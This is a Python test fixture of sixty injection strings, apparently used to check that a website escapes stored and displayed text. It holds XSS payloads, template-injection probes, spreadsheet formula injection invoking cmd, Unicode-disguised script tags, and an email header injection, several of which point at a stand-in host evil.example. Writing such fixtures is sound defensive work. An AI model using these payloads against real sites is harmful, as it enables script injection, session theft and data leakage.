"""Sixty texts that would do something if a page, a file or a mail took them for more than text.

Each that could run calls `ran()`, which the tests' browser notes down. Written for this site: for what it stores, and
for where it shows it.
"""

HTML = (
    "<script>ran(1)</script>",
    "</script><script>ran(2)</script>",
    "<img src=x onerror=ran(3)>",
    "<svg/onload=ran(4)>",
    "<svg><animate onbegin=ran(5) attributeName=x dur=1s>",
    "<iframe srcdoc='<script>parent.ran(6)</script>'></iframe>",
    "<body onpageshow=ran(7)>",
    "<details open ontoggle=ran(8)>",
    "<input autofocus onfocus=ran(9)>",
    "<math><mi xlink:href='javascript:ran(10)'>",
    "</title><script>ran(11)</script>",
    "</textarea><script>ran(12)</script>",
    "</noscript><img src=x onerror=ran(13)>",
    "--><script>ran(14)</script><!--",
    "]]><script>ran(15)</script>",
    "<template><img src=x onerror=ran(16)></template>",
    "<style>@import '//evil.example/17'</style>",
    "<link rel=stylesheet href=//evil.example/18>",
    "<meta http-equiv=refresh content='0;url=//evil.example/19'>",
    "<base href=//evil.example/20/>",
    "<form action=//evil.example/21><button>Pay out</button>",
    "<object data=//evil.example/22></object>",
    "<b hx-get='/logout' hx-trigger='load'>23</b>",
    "<b hx-on::load='ran(24)'>24</b>",
    '<table background="javascript:ran(25)">',
)
ATTRIBUTES = (
    '" onmouseover="ran(26)" x="',
    "' onmouseover='ran(27)' x='",
    '" autofocus onfocus=ran(28) x="',
    "` onmouseover=ran(29) x=`",
    '" style="position:fixed;inset:0" x="',
    '"><img src=x onerror=ran(31)>',
    "'><svg onload=ran(32)>",
    '" hx-get="/logout" hx-trigger="load" x="',
    '" formaction="javascript:ran(34)" x="',
)
ADDRESSES = (
    "javascript:ran(35)",
    "JaVaScRiPt\t:ran(36)",
    "java\nscript:ran(37)",
    "data:text/html,<script>ran(38)</script>",
    "vbscript:ran(39)",
    "//evil.example/40",
    "https://evil.example@localhost/41",
    "[click](javascript:ran(42))",
    "![x](x 'onerror=ran(43)')",
)
TEMPLATES = (
    "{{ 7 * 7 }}{{ config }}",
    "{% for x in ().__class__.__bases__ %}{% endfor %}",
    "${7*7}#{7*7}<%= 7*7 %>",
    "%(name)s %s %d %n",
    "{0.__class__.__init__.__globals__}",
)
SCRIPTS = (
    "';ran(49)//",
    '"};ran(50);//',
    "\u2028ran(51)\u2029",
    '{"__proto__": {"onload": "ran(52)"}}',
    "<!--<script>ran(53)",
)
FORMULAS = (
    '=HYPERLINK("//evil.example/54","Ada")',
    "+cmd|' /C calc'!A0",
    "-1+1|;=1+1",
    "@SUM(1+1)*cmd|' /C calc'!A0",
)
DISGUISES = (
    "\u202e>tpircs/<)85(nar>tpircs<",
    "\uff1cscript\uff1eran(59)\uff1c/script\uff1e",
    "Ada\r\nBcc: everyone@evil.example\r\n\r\n<script>ran(60)</script>",
)
PAYLOADS = (*HTML, *ATTRIBUTES, *ADDRESSES, *TEMPLATES, *SCRIPTS, *FORMULAS, *DISGUISES)

# As characters of HTML they must never reach a page as they are.
MARKUP = tuple(payload for payload in PAYLOADS if set(payload) & set("<>\"'"))
